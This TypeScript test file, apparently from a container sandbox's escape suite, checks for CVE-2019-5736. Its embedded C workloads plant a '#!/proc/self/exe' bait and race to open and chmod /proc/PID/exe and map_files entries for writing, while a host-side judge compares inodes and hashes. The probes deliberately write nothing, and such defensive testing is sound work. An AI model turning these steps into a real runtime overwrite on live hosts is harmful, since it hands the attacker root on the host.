/**
 * Overwriting the runtime's own binaries from inside the container (CVE-2019-5736): a process
 * that runs a runtime binary inside the container exposes that binary as /proc/PID/exe, and a
 * write-open of it (directly, or through an O_PATH descriptor reopened via /proc/self/fd once
 * the process is gone and the text is no longer busy) would let the container replace the
 * host's runc, dist/moat-init or node, which the host then runs as root.
 *
 * The workloads never write: they only OPEN for writing (O_WRONLY, without O_TRUNC), close at
 * once, and chmod the file to the mode it already has, and report the device and inode of
 * what they opened or chmod'ed. The judge decides on the host: an open-for-write or an accepted
 * chmod of one of the host's runtime files (same device and inode as runc, runsc, node,
 * dist/moat-init, dist/moat-agent, dist/moat.cjs or dist/sentry.cjs) is an escape (a chmod
 * that works with the same mode works with 4755 or 000 too), and so is any change of their
 * sha256 over the trial (never restored: it must not happen) or of their mode (put back).
 */
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { chmodSync, readFileSync, realpathSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { blocked, escaped, excerpt, ranToEnd, report, trialError } from '../framework.js';
import type { Attempt, RunOutput, Trial, Verdict } from '../framework.js';
import { REPO } from '../../helpers/runtime.js';
import { FD_PRELUDE, execInto, onHostKernel, waitForOutput } from './fd-leak.js';
import type { ExecResult } from './fd-leak.js';

/** The host's runtime files: what a container must never be able to open for writing. */
function runtimeFiles(): string[] {
  const files = [process.execPath, ...['moat-init', 'moat-agent', 'moat.cjs', 'sentry.cjs'].map((f) => join(REPO, 'dist', f))];
  for (const cmd of ['runc', 'runsc']) {
    try {
      files.push(execFileSync('sh', ['-c', `command -v ${cmd}`], { encoding: 'utf8' }).trim());
    } catch {
      // not installed
    }
  }
  const real = new Set<string>();
  for (const f of files) {
    try {
      real.add(realpathSync(f));
    } catch {
      // not built or not installed
    }
  }
  return [...real];
}

/** sha256 and "dev:ino" of each runtime file. */
interface Snapshot {
  sha: Map<string, string>;
  mode: Map<string, number>;
  devIno: Map<string, string>;
}

function snapshot(): Snapshot {
  const s: Snapshot = { sha: new Map(), mode: new Map(), devIno: new Map() };
  for (const f of runtimeFiles()) {
    s.sha.set(f, createHash('sha256').update(readFileSync(f)).digest('hex'));
    const st = statSync(f, { bigint: true });
    s.devIno.set(`${st.dev}:${st.ino}`, f);
    s.mode.set(f, Number(st.mode) & 0o7777);
  }
  return s;
}

/** The snapshot taken in setup (one trial at a time). */
let before: Snapshot | undefined;

/**
 * The judge: a runtime file changed, opened for writing (a `WOPEN label dev=D ino=I -> target`
 * line whose device and inode are a runtime file's), or its mode set (`WMETA`: a chmod to the
 * mode it already had was accepted, so 4755 or 0 would have been too), is an escape.
 */
function judgeWrites(t: Trial, out: RunOutput, extra?: () => Verdict | string): Verdict {
  const then = before;
  before = undefined;
  const now = snapshot();
  if (then) {
    for (const [f, sha] of then.sha) if (now.sha.get(f) !== sha) return escaped(`${f} changed during the trial (sha256 ${sha.slice(0, 12)} -> ${now.sha.get(f)?.slice(0, 12)})`);
    for (const [f, mode] of then.mode) {
      if (now.mode.get(f) === mode) continue;
      chmodSync(f, mode); // a mode is harmless to put back
      return escaped(`${f} changed mode during the trial (${mode.toString(8)} -> ${now.mode.get(f)?.toString(8)}; restored)`);
    }
  }
  const opened: string[] = [];
  for (const line of out.stdout.split('\n')) {
    const m = /^(WOPEN|WMETA) (\S+) dev=(\d+) ino=(\d+) -> (.*)$/.exec(line);
    if (!m) continue;
    const file = now.devIno.get(`${m[3]}:${m[4]}`);
    if (file !== undefined && onHostKernel(t, report(out))) {
      const pid = (m[2] ?? '').split(':')[0];
      const exe = out.stdout.split('\n').find((l) => l.startsWith(`EXE ${pid}:`)) ?? '';
      const what = m[1] === 'WOPEN' ? `opened the host's ${file} for writing` : `chmod of the host's ${file} accepted (to its own mode: 4755 or 000 would be too)`;
      return escaped(`${m[2]}: ${what}; ${exe}`);
    }
    opened.push(`${m[2]}->${m[5]}`);
  }
  if (!ranToEnd(out)) return trialError(`the workload did not finish: ${excerpt(out)}`);
  const more = extra?.() ?? '';
  if (typeof more !== 'string') return more;
  const seen = out.stdout.split('\n').filter((l) => l.startsWith('EXE ')).map((l) => l.slice(4));
  const list = seen.join('; ');
  const detail = `${more}runtime files unchanged; ${opened.length ? `writable only: ${opened.join(', ')}` : 'nothing opened for writing'}; seen: ${list.length > 180 ? `${list.slice(0, 177)}...` : list || 'none'}`;
  return blocked(detail);
}

/**
 * C: `try_exe(pid)` opens /proc/PID/exe for writing directly, then as O_PATH and, while the text
 * is busy, keeps reopening that descriptor through /proc/self/fd for writing (up to 3 s), and
 * prints what it got. It writes nothing; a write-open is closed at once.
 */
const EXE_C = String.raw`${FD_PRELUDE}
static void wopen(const char *label, int fd, const char *tgt) {
  struct stat st;
  if (fstat(fd, &st) == 0)
    printf("WOPEN %s dev=%llu ino=%llu -> %s\n", label, (unsigned long long)st.st_dev, (unsigned long long)st.st_ino, tgt);
  close(fd);
}
/* 0 when /proc/pid/exe could not be opened at all (gone, or not dumpable), else 1 */
static int try_exe(int pid) {
  char p[64], tgt[PATH_MAX] = "?", label[64];
  snprintf(p, sizeof p, "/proc/%d/exe", pid);
  int path = open(p, O_PATH | O_CLOEXEC);
  if (path < 0) return 0;
  ssize_t n = readlink(p, tgt, sizeof tgt - 1);
  if (n >= 0) tgt[n] = 0;
  struct stat st;
  fstat(path, &st);
  snprintf(label, sizeof label, "%d:exe", pid);
  int w = open(p, O_WRONLY | O_CLOEXEC);
  const char *direct = w >= 0 ? "OK" : ename(errno);
  if (w >= 0) wopen(label, w, tgt);
  char re[64];
  snprintf(re, sizeof re, "/proc/self/fd/%d", path);
  /* the file's metadata: chmod to the mode it already has (a change of nothing, if allowed) */
  snprintf(label, sizeof label, "%d:exe-chmod", pid);
  const char *mode = "OK";
  if (chmod(re, st.st_mode & 07777) == 0)
    printf("WMETA %s dev=%llu ino=%llu -> %s\n", label, (unsigned long long)st.st_dev, (unsigned long long)st.st_ino, tgt);
  else mode = ename(errno);
  snprintf(label, sizeof label, "%d:exe-reopened", pid);
  const char *reopen = "ETXTBSY";
  struct timespec t0, t1;
  clock_gettime(CLOCK_MONOTONIC, &t0);
  for (;;) {
    w = open(re, O_WRONLY | O_CLOEXEC);
    if (w >= 0) { reopen = "OK"; wopen(label, w, tgt); break; }
    if (errno != ETXTBSY) { reopen = ename(errno); break; }
    clock_gettime(CLOCK_MONOTONIC, &t1);
    if (t1.tv_sec - t0.tv_sec >= 3) break;
  }
  close(path);
  printf("EXE %d:%s dev=%llu ino=%llu write=%s reopen=%s chmod=%s\n", pid, tgt, (unsigned long long)st.st_dev,
         (unsigned long long)st.st_ino, direct, reopen, mode);
  return 1;
}
`;

/** Exec results of the running trial (one trial at a time). */
let execs: ExecResult[] = [];

/** The attempts of this category. */
export const attempts: Attempt[] = [
  {
    id: 'runtime-binary-exec-shebang',
    category: 'runtime-binary',
    title: 'CVE-2019-5736: the runtime exec\'s a `#!/proc/self/exe` script, re-running its own binary in the container, which the workload races to open for writing and chmod',
    shows: 'the runtime\'s own binary never becomes reachable from the container (not run, not dumpable, or a sealed copy); the host\'s runtime files are unchanged',
    c: String.raw`${EXE_C}
int main(void) {
  start();
  /* the bait: whatever executes it runs /proc/self/exe, i.e. its own binary, in the container */
  int fd = open("/dev/moat-entry", O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
  if (fd < 0 || write(fd, "#!/proc/self/exe\n", 17) != 17) { printf("ENTRY=%s\n", ename(errno)); printf("DONE=1\n"); return 0; }
  close(fd);
  chmod("/dev/moat-entry", 0755);
  static char done[4096];
  int top = 1;
  printf("READY=1\n");
  time_t end = time(NULL) + 18;
  while (time(NULL) < end && access("/dev/shm/moat-stop", F_OK) != 0) {
    for (int pid = 2; pid < 4096 && pid <= top + 64; pid++) {
      if (done[pid]) continue;
      char p[64];
      snprintf(p, sizeof p, "/proc/%d", pid);
      if (access(p, F_OK) != 0) continue;
      if (pid > top) top = pid;
      if (try_exe(pid)) done[pid] = 1;
    }
  }
  printf("DONE=1\n");
  return 0;
}
`,
    setup: () => {
      before = snapshot();
      execs = [];
    },
    during: async (t, running) => {
      if (!(await waitForOutput(t, 'READY=1', running, 30_000))) return;
      for (let i = 0; i < 5; i++) execs.push(await execInto(t, ['/dev/moat-entry']));
      execs.push(await execInto(t, ['/bin/touch', '/dev/shm/moat-stop']));
    },
    judge: (t, out) =>
      judgeWrites(t, out, () => {
        const stop = execs[execs.length - 1];
        if (!stop || stop.status !== 0) return trialError(`the runtime's exec did not run: ${stop?.stderr.split('\n')[0] ?? 'never tried'}`);
        const v = report(out).get('ENTRY');
        if (v) return trialError(`could not write the bait script: ${v}`);
        const said = (execs[0]?.stderr.split('\n')[0] ?? '').slice(0, 80);
        return `exec of the bait: ${execs[0]?.signal ?? `status ${execs[0]?.status}`} (${said || 'no message'}); `;
      }),
  },
  {
    id: 'runtime-binary-exe-write',
    category: 'runtime-binary',
    title: 'opens /proc/PID/exe (directly, and reopened from O_PATH; and chmods it) and /proc/PID/map_files/* of every visible process for writing',
    shows: 'no visible process runs a host runtime binary; what is visible is busy or not writable',
    c: String.raw`${EXE_C}
int main(void) {
  start();
  DIR *d = opendir("/proc");
  struct dirent *e;
  while (d && (e = readdir(d))) {
    if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
    int pid = atoi(e->d_name);
    if (!try_exe(pid)) printf("EXE %d:(not openable: %s)\n", pid, ename(errno));
    char mf[64];
    snprintf(mf, sizeof mf, "/proc/%d/map_files", pid);
    DIR *m = opendir(mf);
    struct dirent *f;
    int tried = 0;
    const char *err = "none";
    while (m && (f = readdir(m))) {
      if (f->d_name[0] == '.') continue;
      char p[PATH_MAX], tgt[PATH_MAX] = "?", label[PATH_MAX];
      snprintf(p, sizeof p, "%s/%s", mf, f->d_name);
      ssize_t n = readlink(p, tgt, sizeof tgt - 1);
      if (n >= 0) tgt[n] = 0;
      tried++;
      int w = open(p, O_WRONLY | O_CLOEXEC);
      if (w >= 0) { snprintf(label, sizeof label, "%d:map_files/%s", pid, f->d_name); wopen(label, w, tgt); }
      else err = ename(errno);
    }
    if (m) closedir(m);
    printf("MAPS %d tried=%d last_error=%s\n", pid, tried, err);
  }
  if (d) closedir(d);
  printf("DONE=1\n");
  return 0;
}
`,
    setup: () => {
      before = snapshot();
    },
    judge: (t, out) => judgeWrites(t, out),
  },
];
